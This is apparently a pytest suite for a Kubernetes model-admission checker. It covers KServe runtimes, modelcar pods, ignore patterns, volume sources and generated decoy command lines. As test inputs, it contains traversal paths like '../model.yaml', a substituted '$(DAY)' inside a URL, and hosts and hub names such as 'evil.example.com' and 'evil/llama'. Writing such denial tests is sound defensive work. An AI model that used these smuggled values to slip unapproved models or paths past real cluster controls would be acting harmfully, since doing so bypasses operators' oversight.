def test_a_pattern_matches_no_text_that_leads_elsewhere(pattern: str, text: str, option: str) -> None:
    """User information before a host, or `..` behind a path: only a pattern that does so itself passes over it."""
    assert problems(serving(option + text), ModelSearchSettings(ignore=(pattern, "--*=" + pattern)))
    assert problems(variable("URL", value=text), ModelSearchSettings(ignore=(pattern, "URL=" + pattern)))
    assert (
        problems(serving(text), ModelSearchSettings(ignore=(pattern,), strict=False))
        or option
        or "http" in text
    )


@pytest.mark.parametrize("text", ["http://me@proxy.example.com/x", "s3://logs/$(DAY)", "s3://logs/a/../b"])
def test_a_text_that_leads_elsewhere_passes_as_it_is(text: str) -> None:
    """The operator wrote all of it."""
    assert problems(variable("URL", value=text), ModelSearchSettings(ignore=(text,))) == set()
    assert problems(variable("URL", value=text + "z"), ModelSearchSettings(ignore=(text + "*",)))


ALMOST_THE_ROOT_CA: list[Object] = [
    {"configMap": {"name": "kube-root-ca.crt"}},
    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "model.yaml", "path": "ca.crt"}]}},
    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "../model.yaml"}]}},
    {"secret": {"secretName": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
    {"configMap": {"name": "openshift-service-ca.crt", "items": [{"key": "service-ca.crt", "path": "service-ca.crt"}]}},
]  # fmt: skip


@pytest.mark.parametrize("source", ALMOST_THE_ROOT_CA, ids=range(len(ALMOST_THE_ROOT_CA)))
def test_what_only_has_a_name_of_the_clusters_is_denied(source: Object) -> None:
    """The cluster puts back one key of one ConfigMap: authors write the other keys, and the name on other clusters."""
    for volume in (source, {"projected": {"sources": [source]}}):
        assert problems(with_volume(volume)) == {"GC-A0207"}


def test_a_share_is_named_with_its_server() -> None:
    """The same path on another server is another volume."""
    one, other = (
        {"nfs": {"server": server, "path": "/logs"}} for server in ("nas.example.com", "evil.example.com")
    )
    rule = ModelSearchSettings(ignore=("nfs:nas.example.com/logs",))
    assert (problems(with_volume(one), rule), problems(with_volume(other), rule)) == (set(), {"GC-A0208"})


def test_only_the_annotations_of_gitchain_are_its_own() -> None:
    """Another name that begins alike is looked at like every annotation."""
    assert problems(serving(annotations={"gitchain.dev/modelcar": "hf://evil/llama"}))


def test_every_message_says_what_the_rule_can_ignore(ready: Admission) -> None:
    """The text as a pattern wants it, or the digest of one that is too long to show."""
    shown = str(judged(ready, review(serving("--mime=text/plain"))).answer.problems[0])
    assert "'--mime=text/plain' can name a model" in shown
    assert "let the rule ignore '--mime=text/plain'" in shown
    (told,) = judged(ready, review(serving("sh", "-c", "if true; then vllm serve gpt2; fi"))).answer.problems
    assert text_digest("if true; then vllm serve gpt2; fi") in told.help
    long = "x/" + "y" * 300
    assert f"let the rule ignore {text_digest(long)}" in str(
        judged(ready, review(serving(long))).answer.problems[0]
    )


MODELCAR = (
    f"echo 'Pre-fetching modelcar {GOOD}: ' && [ -d /models ] && [ \"$$(ls -A /models)\" ] && echo 'OK ... Prefetched and"
    " valid (/models exists)' || (echo 'NOK ... Prefetched but modelcar is invalid (/models does not exist or is empty)'"
    " && exit 1)"
)
RUNTIMES: list[tuple[list[str], Object]] = [
    (["--model_name={{.Name}}", "--model_dir=/mnt/models", "--http_port=8080"], {}),
    (["--model_name={{.Name}}"], {"env": [{"name": "LMCACHE_USE_EXPERIMENTAL", "value": "True"}]}),
    (["--model_name={{.Name}}", "--port=9000", "--rest_api_port=8080", "--model_base_path=/mnt/models",
      "--rest_api_timeout_in_ms=60000"], {"command": ["/usr/bin/tensorflow_model_server"]}),
    (["tritonserver", "--model-store=/mnt/models", "--grpc-port=9000", "--http-port=8080", "--allow-grpc=true"], {}),
    (["torchserve", "--start", "--model-store=/mnt/models/model-store",
      "--ts-config=/mnt/models/config/config.properties"],
     {"env": [{"name": "TS_SERVICE_ENVELOPE", "value": "{{.Labels.serviceEnvelope}}"}]}),
    ([], {"env": [{"name": "MLSERVER_MODEL_IMPLEMENTATION", "value": "{{.Labels.modelClass}}"},
                  {"name": "MLSERVER_HTTP_PORT", "value": "8080"}]}),
    (["--model_name={{.Name}}"], {"command": ["bash", "-c", 'export A="--model_dir=${MODEL_ID}"\npython -m x $A $0 $@']}),
]  # fmt: skip


@pytest.mark.parametrize(("arguments", "more"), RUNTIMES, ids=range(len(RUNTIMES)))
def test_kserves_own_runtimes_are_admitted_and_name_no_model(
    ready: Admission, arguments: list[str], more: Object
) -> None:
    """A runtime starts nothing: no rule has to be made for it, and a model that it names is demanded all the same."""
    spec = {"containers": [{"name": "kserve-container", "image": "server:1", "args": arguments, **more}],
            "volumes": [{"name": "devshm", "emptyDir": {"medium": "Memory"}}]}  # fmt: skip
    for kind in ("ServingRuntime", "ClusterServingRuntime"):
        assert judged(ready, review(kserve(kind, spec, "v1alpha1"))).reason == "no model"
        bad = {**spec, "containers": [{**spec["containers"][0], "args": [*arguments, oci("nosuch")]}]}
        assert codes(judged(ready, review(kserve(kind, bad, "v1alpha1")))) == {"GC-E0201"}


@pytest.mark.parametrize(("arguments", "more"), RUNTIMES[:-1], ids=range(len(RUNTIMES) - 1))
@pytest.mark.parametrize("how", ["initialiser", "modelcar"])
def test_pods_of_kserves_runtimes_are_admitted(arguments: list[str], more: Object, how: str) -> None:
    """As KServe makes them, with its storage initialiser or the model's image; what a user adds to one is looked at."""
    filled = [
        one.replace("{{.Name}}", "credit").replace("{{.Labels.modelClass}}", "mlserver_sklearn.SKLearnModel")
        for one in arguments
    ]
    server = {"name": "kserve-container", "image": "server:1", "args": filled, **more}
    spec: Object = {
        "containers": [server],
        "volumes": [{"name": "kserve-provision-location", "emptyDir": {}}],
    }
    if how == "initialiser":
        spec["initContainers"] = [{"name": "storage-initializer", "args": [oci("good"), "/mnt/models"]}]
    else:
        for name, program in (("modelcar", "ln -sf /proc/$$/root/models /mnt/models && sleep infinity"),
                              ("modelcar-init", MODELCAR)):  # fmt: skip
            spec["containers"].append({"name": name, "image": GOOD, "args": ["sh", "-c", program]})
    source = pod() | {"spec": spec}
    assert problems(source) == set()
    server["args"] = [*filled, "--model_id=evil/llama"]
    assert problems(source) == {"GC-A0208"}
    server["args"] = filled
    if how == "modelcar":
        spec["containers"][1]["args"][2] += " && vllm serve gpt2"
        assert problems(source) == {"GC-A0208"}


WORD = st.from_regex(r"[A-Za-z][A-Za-z0-9_-]{2,15}[0-9a-z]", fullmatch=True).filter(
    lambda text: text.lower() not in {"true", "false"}
)
IDS = st.builds("{}/{}".format, WORD, WORD) | st.builds("{}/{}:{}".format, WORD, WORD, WORD)
URLS = st.builds("{}://{}/{}".format, st.from_regex(r"[a-z][a-z+]{1,7}[a-z]", fullmatch=True), WORD, WORD)
ANY_OPTION = st.from_regex(r"--[a-z][a-z_-]{0,12}[a-z]", fullmatch=True)
BESIDE = st.lists(
    st.sampled_from(["--port=80", "serve", "/mnt/models", "--verbose", "--dtype=auto", oci("good")])
)
VIAS: tuple[Callable[[str, str], list[str]], ...] = (
    lambda option, text: [option, text],
    lambda option, text: [f"{option}={text}"],
    lambda _, text: [text],
    lambda option, text: [f'{option}={{"a": ["{text}"]}}'],
    lambda option, text: [f"{option}=x,y={text}"],
    lambda option, text: ["sh", "-c", f"serve {option} {text}"],
)


@given(st.data())
@settings(max_examples=sized(75, 20_000), deadline=None)
def test_generated_decoys_are_never_admitted(data: st.DataObject) -> None:
    """Hub names and addresses behind any option, in any place of a command line, beside good models."""
    text, option = data.draw(IDS | URLS), data.draw(ANY_OPTION)
    before, after = data.draw(BESIDE), data.draw(BESIDE)
    if text.startswith(("file:///", "unix:///")):
        return
    items = [*before, *data.draw(st.sampled_from(VIAS))(option, text), *after]
    container: st.SearchStrategy[dict[str, Any]] = st.sampled_from([{"args": items}, {"command": ["/bin/x", *items]},
                                 {"env": [{"name": "X", "value": text}]}])  # fmt: skip
    source = serving()
    source["spec"]["containers"].append({"name": "decoy", **data.draw(container)})
    assert problems(source) & {"GC-A0201", "GC-A0208"}, items


@given(
    WORD.filter(lambda text: text.lower() not in {"serve", "infinity", "start", "debug"}),
    st.sampled_from(OPTIONS),
)
@settings(max_examples=sized(50, 5_000), deadline=None)
def test_generated_words_are_never_admitted_where_a_model_stands(word: str, option: str) -> None:
    """A hub knows names without an owner: behind an option that speaks of models, and alone."""
    from gitchain.admit.word_shapes import COMMON

    if word not in COMMON:
        for arguments in ([option, word], [f"{option}={word}"], ["serve", word], [word]):
            assert problems(serving(*arguments)) == {"GC-A0208"}, arguments


def test_long_names_are_not_remembered() -> None:
    """4,096 remembered names of a megabyte each, which any author of a pod may write, would be 4 GB."""
    option_names._known_speaking.cache_clear()
    word_shapes._known_shape.cache_clear()
    for n in range(8):
        option_names.refers_to_models(f"model-{n}-{'x' * 10_000}")
        word_shapes.harmless(f"model-{n}-{'x' * 10_000}", words=True)
    assert option_names._known_speaking.cache_info().currsize == 0
    assert word_shapes._known_shape.cache_info().currsize == 0
    assert option_names.refers_to_models("model-dir")
    assert option_names._known_speaking.cache_info().currsize == 1


def test_a_denial_shows_what_to_type_for_numbers_and_addresses() -> None:
    """A number passes behind `=`, and an address that is no model by a text for `ignore`."""
    numbers = reasons(serving("--repetition-penalty", "1.1"))
    assert "write '--repetition-penalty=1.1' as one word" in numbers[0].help
    assert problems(serving("--repetition-penalty=1.1")) == set()
    endpoint = variable("OTEL_EXPORTER_OTLP_ENDPOINT", value="http://otel:4317")
    addresses = reasons(endpoint)
    assert "ignore 'http://otel:4317'" in addresses[0].help
    assert problems(endpoint, ModelSearchSettings(ignore=("http://otel:4317",))) == set()
